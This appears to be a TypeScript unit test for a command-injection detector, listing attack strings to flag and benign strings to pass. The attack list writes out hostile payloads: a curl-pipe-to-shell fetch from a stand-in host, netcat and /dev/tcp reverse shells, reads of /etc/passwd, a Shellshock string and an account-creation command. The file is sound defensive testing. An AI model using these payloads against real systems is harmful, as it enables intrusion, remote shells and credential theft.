import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeValue } from '../../../src/threat/decode/normalize.js';
import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';

const score = (s: string) => detectCmdi(decodeValue(s)).confidence;

describe('OS command injection detector', () => {
  const attacks = [
    '; id', '|whoami', '&& cat /etc/passwd', '`uname -a`', '$(curl http://evil.example/x.sh|sh)', 'a;/usr/bin/id;',
    '127.0.0.1; ping -c 3 evil.example', '%0aid', "w'h'o'am'i;", 'x|/bin/sh -i', '() { :;}; /bin/bash -c id',
    ';cat${IFS}/etc/passwd', '{cat,/etc/passwd}', '& net user hacker Passw0rd /add', '| nc -e /bin/sh 10.0.0.1 4444',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', "<!--#exec cmd=\"ls\" -->", "system('id')", '{{ "".__class__.__mro__ }}',
    '${@print(md5(1))}', 'sleep 5', 'ls -la /etc',
  ];
  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));

  const benign = [
    'Hi; who is this?', 'cut & paste', 'copy & paste', 'Tom & Jerry', 'Lorem ipsum; sed do eiusmod', 'sleep 8 hours',
    'cat food', 'top 10 movies', 'Run `npm install` first', '```bash\ncurl -X POST https://api.example.com\n```',
    'a=1&type=2', '&copy; 2024 Example Inc.', '| Name | Age |', 'ping pong table', 'Yes -- I agree', 'echo dot',
    'Hello {{first_name}}', 'Dear ${customer}', 'find my phone', 'curl',
  ];
  for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
});
